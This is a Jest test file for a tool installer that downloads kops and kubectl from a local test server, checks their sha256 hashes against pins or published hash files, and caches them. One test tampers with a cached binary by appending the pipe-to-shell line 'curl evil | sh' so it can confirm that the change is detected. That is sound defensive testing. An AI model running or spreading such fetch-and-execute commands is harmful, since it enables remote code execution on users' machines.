import {execFileSync} from 'node:child_process';
import {createHash} from 'node:crypto';
import {mkdirSync, readdirSync, rmSync, statSync, writeFileSync} from 'node:fs';
import {createServer, type Server} from 'node:http';
import type {AddressInfo} from 'node:net';
import {join} from 'node:path';
import {afterEach, beforeEach, expect, test} from '@jest/globals';
import {installTool, runnerCache, type ToolRequest} from '../../src/tools/install.js';
import {builtIn, parsePins} from '../../src/tools/pins.js';
import {fakeHost} from '../fakes/host.js';
import {type FakeToolCache, fakeToolCache} from '../fakes/tool-cache.js';

/** What the server answers, by path. */
const routes = new Map<string, string | {status: number; location?: string}>();
const asked: string[] = [];
let server: Server;
let mirror = '';
let cache: FakeToolCache;

const script = '#!/bin/sh\necho kops says hello\n';
const sha = (text: string) => createHash('sha256').update(text).digest('hex');
const kopsPath = '/kubernetes/kops/releases/download/v1.36.0/kops-linux-amd64';
const kubectlPath = '/release/v1.36.99/bin/linux/arm64/kubectl';

beforeEach(async () => {
  routes.clear();
  asked.length = 0;
  cache = fakeToolCache();
  server = createServer(({url = ''}, response) => {
    asked.push(url);
    const answer = routes.get(url) ?? {status: 404};
    if (typeof answer === 'string') response.end(answer);
    else
      response.writeHead(answer.status, answer.location ? {location: answer.location} : {}).end();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  mirror = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterEach(async () => {
  server.closeAllConnections();
  await new Promise((done) => server.close(done));
  rmSync(cache.folder, {recursive: true});
});

/** A host with a real network, whose official sites are the server of this test. */
function host() {
  const reroute: typeof fetch = (input, init) => {
    const url = new URL(String(input));
    return fetch(url.protocol === 'https:' ? `${mirror}${url.pathname}` : url, init);
  };
  return fakeHost(undefined, {fetch: reroute});
}

const pin = (text: string) => parsePins(`kops 1.36.0 linux/amd64 ${sha(text)}`);
const kops = (more: Partial<ToolRequest> = {}): ToolRequest => ({
  tool: 'kops',
  version: '1.36.0',
  platform: 'linux/amd64',
  pins: [],
  ...more,
});
const kubectl = (more: Partial<ToolRequest> = {}): ToolRequest => ({
  tool: 'kubectl',
  version: '1.36.99',
  platform: 'linux/arm64',
  pins: [],
  ...more,
});

test('a mirror’s own build is installed by the hash of the input, runs, and is cached', async () => {
  routes.set(kopsPath, script);
  const request = kops({mirror: `${mirror}/`, pins: pin(script)});
  const first = await installTool(host(), cache, request);
  expect(first).toMatchObject({cached: false, source: 'input', sha256: sha(script)});
  expect(first.file).toBe(join(first.path, 'kops'));
  expect(execFileSync(first.file, {encoding: 'utf8'})).toBe('kops says hello\n');
  expect(await installTool(host(), cache, request)).toEqual({...first, cached: true});
  expect(asked).toEqual([kopsPath]);
  expect(readdirSync(cache.temp)).toEqual([]);
});

test('wrong bytes are deleted before they are cached or can be run, and the error says all', async () => {
  routes.set(kopsPath, 'something else');
  await expect(installTool(host(), cache, kops())).rejects.toMatchObject({
    code: 'KS131',
    message:
      `kops 1.36.0 from https://github.com${kopsPath} has sha256 ${sha('something else')}, ` +
      `but ${builtIn('kops', '1.36.0', 'linux/amd64')?.sha256} is expected (by ` +
      'https://github.com/kubernetes/k8s.io/tree/main/artifacts/manifests/k8s-staging-kops)',
    cure: expect.stringContaining('`pins`'),
  });
  expect(readdirSync(cache.folder)).toEqual(['temp']);
  expect(readdirSync(cache.temp)).toEqual([]);
});

test('a cached tool that was changed is not used', async () => {
  routes.set(kopsPath, script);
  const request = kops({mirror, pins: pin(script)});
  const {file} = await installTool(host(), cache, request);
  writeFileSync(file, `${script}curl evil | sh\n`);
  await expect(installTool(host(), cache, request)).rejects.toMatchObject({
    code: 'KS131',
    message: expect.stringContaining(`the cached kops 1.36.0, ${file}, has sha256`),
    cure: expect.stringContaining(`Delete ${file}`),
  });
  rmSync(file);
  await expect(installTool(host(), cache, request)).rejects.toMatchObject({code: 'KS131'});
});

test('the input cannot replace the hash of an official build', async () => {
  await expect(installTool(host(), cache, kops({pins: pin(script)}))).rejects.toMatchObject({
    code: 'KS120',
    message: expect.stringContaining('is not that of the official build'),
  });
  expect(asked).toEqual([]);
});

test('a mirror’s build and the official one of a version do not meet in the cache', async () => {
  const official = builtIn('kops', '1.36.0', 'linux/amd64')?.sha256 ?? '';
  const path = join(cache.folder, 'kops', '1.36.0', `linux-amd64-${official.slice(0, 16)}`);
  mkdirSync(path, {recursive: true});
  writeFileSync(join(path, 'kops'), 'not looked at');
  routes.set(kopsPath, script);
  const tool = await installTool(host(), cache, kops({mirror, pins: pin(script)}));
  expect(tool.cached).toBe(false);
  expect(tool.path).not.toBe(path);
});

test('a mirror without pins must carry the official build', async () => {
  routes.set(kopsPath, script);
  await expect(installTool(host(), cache, kops({mirror}))).rejects.toMatchObject({code: 'KS131'});
});

test.each([
  ['a bare hash', (hash: string) => hash],
  ['as sha256sum writes it', (hash: string) => `${hash.toUpperCase()}  kubectl\n`],
])('a version that nobody pinned has the hash that is published beside it: %s', async (_, form) => {
  routes.set(kubectlPath, script);
  routes.set(`${kubectlPath}.sha256`, form(sha(script)));
  const tool = await installTool(host(), cache, kubectl());
  expect(tool).toMatchObject({source: 'published', sha256: sha(script), version: '1.36.99'});
  expect(statSync(tool.file).mode & 0o111).toBe(0o111);
  expect(asked).toEqual([`${kubectlPath}.sha256`, kubectlPath]);
});

test('a published file without a hash, or with the wrong one, installs nothing', async () => {
  routes.set(kubectlPath, script);
  routes.set(`${kubectlPath}.sha256`, '<html>sign in</html>');
  await expect(installTool(host(), cache, kubectl())).rejects.toMatchObject({
    code: 'KS131',
    message: expect.stringContaining('holds no sha256'),
  });
  routes.set(`${kubectlPath}.sha256`, sha('other'));
  await expect(installTool(host(), cache, kubectl())).rejects.toMatchObject({
    code: 'KS131',
    message: expect.stringContaining(`(by https://dl.k8s.io${kubectlPath}.sha256)`),
  });
});

test('the input pins a version that kops-spot does not know', async () => {
  routes.set(kubectlPath, script);
  const pins = parsePins(`kubectl 1.36.99 linux/arm64 ${sha(script)}`);
  expect(await installTool(host(), cache, kubectl({pins}))).toMatchObject({source: 'input'});
});

test('the runner’s own tool cache keeps the program executable', async () => {
  const env = {RUNNER_TEMP: cache.temp, RUNNER_TOOL_CACHE: join(cache.folder, 'real')};
  Object.assign(process.env, env);
  try {
    routes.set(kopsPath, script);
    const real = runnerCache(fakeHost(undefined, {env}));
    const request = kops({mirror, pins: pin(script)});
    const tool = await installTool(host(), real, request);
    expect(tool.path).toBe(
      join(env.RUNNER_TOOL_CACHE, 'kops', '1.36.0', `linux-amd64-${sha(script).slice(0, 16)}`),
    );
    expect(execFileSync(tool.file, {encoding: 'utf8'})).toContain('hello');
    expect((await installTool(host(), real, request)).cached).toBe(true);
  } finally {
    for (const name of Object.keys(env)) delete process.env[name];
  }
  expect(() => runnerCache(fakeHost())).toThrow('RUNNER_TEMP and RUNNER_TOOL_CACHE');
});
